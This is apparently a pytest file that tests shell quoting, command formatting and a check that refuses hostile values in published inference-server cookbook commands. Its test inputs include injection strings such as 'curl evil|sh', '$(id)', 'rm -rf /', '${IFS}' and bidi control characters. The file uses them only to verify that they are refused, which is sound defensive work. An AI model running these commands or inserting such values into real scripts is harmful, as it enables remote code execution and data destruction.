"""The cookbook's shell text: quoting, block text, titles, placeholders, "Copy all", and the
publishability check that refuses hostile values."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from syncer.cookbook.shell import (
    block_title,
    check_pasteable,
    check_publishable,
    check_publishable_each,
    copy_all,
    format_block,
    js_string,
    placeholder_text,
    placeholders,
    quote,
)
from syncer.errors import SyncError
from syncer.model import Selection


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("deepseek-ai/DeepSeek-V4.1", "deepseek-ai/DeepSeek-V4.1"),
        ("a@b%c+d=e:f,g.h/i_j-k", "a@b%c+d=e:f,g.h/i_j-k"),
        ("http://$ETCD_IP:2379", '"http://$ETCD_IP:2379"'),
        ("$NODE_IP", '"$NODE_IP"'),
        ("${NODE_IP}", '"${NODE_IP}"'),
        ('{"enable_multithread_load":true}', "'{\"enable_multithread_load\":true}'"),
        ("it's", "'it'\\''s'"),
        ("", "''"),
        ("two words", "'two words'"),
        ("a\nb", "'a\nb'"),
        ("$(id)", "'$(id)'"),
        ("trailing\n", "'trailing\n'"),  # JS `$` does not match before a final newline
        (8, "8"),
        (0.5, "0.5"),
        (2.0, "2"),
        (True, "true"),
        (None, "null"),
    ],
)
def test_quote(value: Any, expected: str) -> None:
    assert quote(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # String(n) in JavaScript (checked with node): plain decimals down to 1e-6.
        (1e21, "1e+21"),
        (1.2345e21, "1.2345e+21"),
        (1e20, "100000000000000000000"),
        (1e-7, "1e-7"),
        (-1e-7, "-1e-7"),
        (1e-5, "0.00001"),
        (1.5e-5, "0.000015"),
        (-2.5e-6, "-0.0000025"),
        (0.0001, "0.0001"),
        (123.456, "123.456"),
        (1e300, "1e+300"),
        (float("inf"), "Infinity"),
    ],
)
def test_numbers_print_as_javascript_does(value: float, expected: str) -> None:
    assert js_string(value) == expected


def test_format_block_layout() -> None:
    block = {
        "kind": "worker",
        "role": "prefill",
        "preamble": ["ulimit -n 65536"],
        "cmd": "python3 -m sglang.launch_server",
        "env": {"A": "1", "B": "$NODE_IP"},
        "args": [["--model-path", "m"], ["--cuda-graph-bs", "1", "2"], ["--flag"]],
    }
    assert format_block(block) == (
        "ulimit -n 65536\n"
        "A=1 \\\n"
        'B="$NODE_IP" \\\n'
        "python3 -m sglang.launch_server \\\n"
        "  --model-path m \\\n"
        "  --cuda-graph-bs 1 2 \\\n"
        "  --flag"
    )


def test_format_block_without_args() -> None:
    assert format_block({"kind": "nats", "cmd": "nats-server -js -sd /tmp/nats", "env": {}}) == (
        "nats-server -js -sd /tmp/nats"
    )
    nginx = {"kind": "nginx", "cmd": "nginx -c nginx.conf -g daemon off;", "args": []}
    assert format_block(nginx) == "nginx -c nginx.conf -g 'daemon off;'"


@pytest.mark.parametrize(
    ("block", "title"),
    [
        ({"kind": "worker", "role": "agg"}, "Worker"),
        ({"kind": "worker", "role": "prefill"}, "Prefill worker"),
        ({"kind": "worker", "role": "decode"}, "Decode worker"),
        ({"kind": "etcd"}, "etcd — Dynamo control plane"),
        ({"kind": "nats"}, "NATS — Dynamo KV-event plane"),
        ({"kind": "mooncake-master"}, "Mooncake master"),
        ({"kind": "mooncake-store"}, "Mooncake store"),
        ({"kind": "dynamo-frontend"}, "Dynamo frontend (OpenAI API)"),
        ({"kind": "sglang-router"}, "SGLang router (OpenAI API)"),
        ({"kind": "nginx"}, "nginx — optional frontend load balancer"),
        ({"kind": "something-new"}, "something-new"),
    ],
)
def test_block_title(block: dict[str, str], title: str) -> None:
    assert block_title(block) == title


def test_placeholders_first_appearance_and_described_only() -> None:
    text = "$NODE_IP $HOME $DECODE_12_HEAD_IP $NODE_IP $FRONTEND_3_IP $remote_addr $AGG_X_HEAD_IP"
    assert placeholders(text) == ["NODE_IP", "DECODE_12_HEAD_IP", "FRONTEND_3_IP"]
    assert placeholder_text("DECODE_12_HEAD_IP") == "first node of decode worker 12"
    assert placeholder_text("FRONTEND_3_IP") == "node of frontend 3"
    assert placeholder_text("HOME") is None


def test_copy_all_with_and_without_placeholders() -> None:
    worker = {"kind": "worker", "role": "agg", "cmd": "serve", "env": {}, "args": [["--p", "1"]]}
    assert copy_all([worker]) == "# Worker\nserve \\\n  --p 1"
    etcd = {"kind": "etcd", "cmd": "etcd", "args": [["--url", "http://$ETCD_IP:2379"]]}
    files = {"nginx.conf#1": "server $FRONTEND_1_IP:8180; $remote_addr"}
    assert copy_all([etcd, worker], files) == (
        "# Set per node before running the commands below\n"
        "export ETCD_IP=<node running etcd>\n"
        "export FRONTEND_1_IP=<node of frontend 1>\n"
        "\n"
        "# etcd — Dynamo control plane\n"
        "etcd \\\n"
        '  --url "http://$ETCD_IP:2379"\n'
        "\n"
        "# Worker\n"
        "serve \\\n"
        "  --p 1"
    )


def test_worked_example_of_the_format_doc(reference: Path) -> None:
    # A worked example: reference module deepseek-v4_1 @2b484a51, cell 1, point 0, sglang, none.
    from syncer.cookbook.decode import load_decoder

    module = reference / "cookbook" / "agentx" / "deepseek-ai" / "deepseek-v4_1" / "2b484a51.jsx"
    decoder = load_decoder(module)
    text = copy_all(
        decoder.blocks_for(Selection(1, 0, "sglang", "none")), decoder.router_files(1, "sglang")
    )
    lines = text.split("\n")
    assert lines[:3] == [
        "# Worker",
        "SGLANG_DEFAULT_THINKING=1 \\",
        "SGLANG_DSPARK_FOLDED_SAMPLING=2 \\",
    ]
    assert lines[8:10] == [
        "python3 -m sglang.launch_server \\",
        "  --model-path deepseek-ai/DeepSeek-V4.1-Flash \\",
    ]
    assert lines[-1] == "  --watchdog-timeout 3600" and len(lines) == 26
    mooncake = copy_all(decoder.blocks_for(Selection(1, 0, "sglang", "mooncake")))
    assert mooncake.split("\n")[1:4] == [
        "export NODE_IP=<IP of the node the command runs on>",
        "export IB_DEVICES=<the node's RDMA NICs>",
        "export MOONCAKE_MASTER_IP=<node running mooncake_master>",
    ]


# ---- check_publishable ---------------------------------------------------------------------


def worker(**changes: Any) -> dict[str, Any]:
    block: dict[str, Any] = {
        "kind": "worker",
        "role": "agg",
        "cmd": "python3 -m sglang.launch_server",
        "env": {"MC_TCP_BIND_ADDRESS": "$NODE_IP", "SGLANG_X": "1"},
        "args": [
            ["--model-path", "org/model"],
            ["--dist-init-addr", "${PREFILL_HEAD_IP}:5757"],
            ["--json", '{"a": "$HOME `id`; rm -rf /"}'],  # single-quoted: inert
        ],
    }
    block.update(changes)
    return block


def test_publishable_values_pass(reference: Path) -> None:
    check_publishable([worker()], "demo")
    nginx = {"kind": "nginx", "cmd": "nginx -c nginx.conf -g daemon off;", "env": {}, "args": []}
    check_publishable([nginx], "demo")
    from syncer.cookbook.decode import load_decoder

    for module in sorted((reference / "cookbook" / "agentx").glob("*/*/*.jsx")):
        decoder = load_decoder(module)
        for case in decoder.cases():
            check_publishable(case.blocks, f"{module.name} {case.cell_id}")


@pytest.mark.parametrize(
    ("block", "what", "reason"),
    [
        (worker(env={"TOKEN": "$GITHUB_TOKEN"}), 'env TOKEN = "$GITHUB_TOKEN"', "$GITHUB_TOKEN"),
        (worker(env={"H": "${HOME}"}), 'env H = "${HOME}"', "not a known placeholder"),
        (worker(env={"D": "${NODE_IP:-x}"}), "env D", "not a known placeholder"),
        (worker(env={"P": "pid$$"}), 'env P = "pid$$"', "shell expansion"),
        (worker(env={"E": "x$"}), 'env E = "x$"', "a trailing $"),
        (worker(env={"A": "$NODE_IPS"}), "env A", "$NODE_IPS"),
        (worker(env={"A": "$NODE_IP_x"}), "env A", "$NODE_IP_x"),
        (worker(env={"N": "a\nb"}), "env N", "line break"),
        (worker(env={"C": "a\x1b[2Jb"}), "env C", "control character"),
        (worker(env={"X; curl evil|sh; Y": "1"}), 'env key = "X; curl evil|sh; Y"', "plain word"),
        (worker(args=[["--model-path", "${IFS}x"]]), "flag --model-path", "$IFS"),
        (worker(args=[["--p", "line\r"]]), "flag --p", "line break"),
        (worker(args=[["--p", "x\u2028y"]]), "flag --p", "line break"),
        # Shown on the page as `--served-model-name x dlrow` but pasted as the reversed text.
        (worker(args=[["--served-model-name", "x \u202eworld"]]), "flag --served", "bidi control"),
        (worker(args=[["--x;id", "1"]]), 'flag = "--x;id"', "plain word"),
        (worker(args=[["$(id)"]]), 'flag = "$(id)"', "plain word"),
        (worker(args=[[]]), "argument []", ""),
        (worker(cmd="python3 -m x; curl evil | sh"), "command", "plain word"),
        (worker(cmd="`id`"), "command", "plain word"),
        (worker(cmd="run $HOME"), "command", "$HOME"),
        (worker(cmd=""), "command", "empty"),
        (worker(preamble=["export A=$(id)"]), "preamble line", "plain word"),
        (worker(preamble=["echo > /etc/x"]), "preamble line", "plain word"),
        (
            {"kind": "nginx", "cmd": "nginx -g daemon off;", "args": [["-c", "x"]]},
            "command",
            "plain word",
        ),
    ],
)
def test_hostile_values_refused(block: dict[str, Any], what: str, reason: str) -> None:
    with pytest.raises(SyncError) as info:
        check_publishable([worker(), block], "cell demo#0 point 1 router sglang")
    message = info.value.message
    assert message.startswith("cell demo#0 point 1 router sglang, block 1 (")
    assert what in message and reason in message


def test_each_distinct_block_is_checked_once_and_a_refusal_names_its_case() -> None:
    # A block shown by many cases (one object, as a decoder shows it) passes once; the one
    # refused is named in its case, at its place there, as a check of every case names it.
    good, bad = worker(), worker(args=[["--x;id", "1"]])
    shown = [
        ("case A", [good, good]),
        ("case B", [good, worker(), bad]),
        ("case C", [bad]),
    ]
    with pytest.raises(SyncError) as info:
        check_publishable_each(shown)
    assert info.value.message.startswith("case B, block 2 (")
    check_publishable_each(shown[:1])  # nothing refused: no error


def test_every_block_kind_has_its_title():
    # The kinds are declared once (model.BLOCK_KINDS): a kind added there without a title
    # here would be shown on the page as its raw name.
    from syncer.cookbook.shell import KIND_TITLES, ROLE_TITLES, block_title
    from syncer.model import BLOCK_KINDS, WORKER_ROLES

    assert set(KIND_TITLES) == set(BLOCK_KINDS) - {"worker"}
    assert set(ROLE_TITLES) == set(WORKER_ROLES)
    for kind in BLOCK_KINDS:
        if kind != "worker":
            assert block_title({"kind": kind}) == KIND_TITLES[kind] != kind
    assert block_title({"kind": "gpu-exporter"}) == "gpu-exporter"


@pytest.mark.parametrize(
    ("line", "printed"),
    [
        ("printf %s 'max_payload: 1\njetstream { }\n' > /tmp/nats.conf", True),
        ("printf %s 'a'\nrm -rf x", False),  # the break ends a command
        ('printf %s "a\nb" > /tmp/x', False),  # only single quotes are read as written
        ("printf %s 'a\nb", False),  # the quote never closes
        ("printf %s 'a\rb' > /tmp/x", False),  # a terminal hides what a CR does
        ("printf %s 'a\u202eb' > /tmp/x", False),
    ],
)
def test_a_raw_preamble_line_may_break_only_inside_single_quotes(line: str, printed: bool) -> None:
    blocks: list[Any] = [{"kind": "nats", "cmd": "nats-server", "preamble": [line], "args": []}]
    if printed:
        check_pasteable(blocks, "here", literal=True)
    else:
        with pytest.raises(SyncError, match=r"preamble line = .*refusing to print it"):
            check_pasteable(blocks, "here", literal=True)
    with pytest.raises(SyncError, match="preamble line"):  # the cookbook form: plain words only
        check_pasteable(blocks, "here")
